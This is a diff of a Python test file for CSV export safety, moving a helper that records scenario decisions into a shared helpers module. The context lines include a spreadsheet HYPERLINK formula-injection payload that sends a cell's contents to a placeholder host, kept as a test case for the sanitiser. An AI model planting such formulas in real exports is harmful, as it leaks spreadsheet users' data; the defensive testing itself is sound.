@@ -19,12 +19,11 @@ import pandas as pd
 import pytest
 from sqlalchemy import update
 
-from records import Finish, Store, User
+from records import Store, User
 from records.csv_safety import BOM, safe_cell, write_csv
 from records.tables import users
 from scenarios import LoadedScenario, Rubric
-from scoring.scorer import summarize
-from tests.helpers import PASSWORD, make_user
+from tests.helpers import PASSWORD, make_user, play
 
 HYPERLINK = '=HYPERLINK("http://127.0.0.2:9/?leak="&A2, "Open")'
 DANGEROUS = [
@@ -86,33 +85,6 @@ NAMES = [
     "Nguyễn Thị Lan",
     'Ana, "Annie"',
 ]
-
-
-def play(store: Store, user: User, mini: LoadedScenario, rubric: Rubric, path: list[tuple[str, str]]) -> int:
-    attempt = store.start_attempt(
-        user, scenario_id=mini.id, content_hash=mini.content_hash, source=mini.text, start=mini.scenario.start, mode="coached"
-    )
-    taken: list[tuple[str, str]] = []
-    for step, (node_id, choice_id) in enumerate(path, start=1):
-        choice = mini.scenario.choice(node_id, choice_id)
-        taken.append((node_id, choice_id))
-        finish = None
-        if choice.next in mini.scenario.endings:
-            summary = summarize(mini.scenario, taken, rubric)
-            finish = Finish(choice.next, summary.points, summary.score)
-        store.record_decision(
-            user,
-            attempt.id,
-            step=step,
-            node_id=node_id,
-            choice_id=choice_id,
-            criteria=choice.criteria,
-            points=rubric.points(choice.criteria),
-            next_node=choice.next,
-            time_taken_ms=1000,
-            finish=finish,
-        )
-    return attempt.id
 
 
 @pytest.fixture
